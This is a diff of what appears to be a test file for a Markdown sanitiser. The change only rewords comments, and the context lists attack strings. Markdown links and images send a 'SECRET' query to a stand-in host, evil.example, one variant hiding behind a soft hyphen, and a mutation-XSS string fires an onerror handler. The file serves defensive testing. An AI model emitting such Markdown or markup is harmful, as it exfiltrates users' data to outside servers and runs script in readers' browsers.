@@ -5,7 +5,7 @@ import type { Composed, Piece } from './composer.ts';
 
 const evil = 'https://evil.example/?q=SECRET';
 
-/** Every way to make a reader of Markdown ask another server, or hide where a link leads. */
+/** Ways to make a reader of Markdown ask another server, or to hide where a link leads. */
 const attacks: [name: string, markdown: string][] = [
   ['an inline link', `[here](${evil})`],
   ['with a title', `[here](<${evil}> "title")`],
@@ -54,7 +54,10 @@ const attacks: [name: string, markdown: string][] = [
   ['a soft hyphen between', `![x]\u00ad(${evil})\n\n[ref]\u00ad: ${evil}`],
 ];
 
-/** What one parser takes for text and the next for an element, once the first has put it right. */
+/**
+ * Markup that one parser takes for text and the next, after the first has repaired it, for an
+ * element.
+ */
 const mutating: [name: string, markdown: string][] = [
   ['a title that ends its parent', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
   [
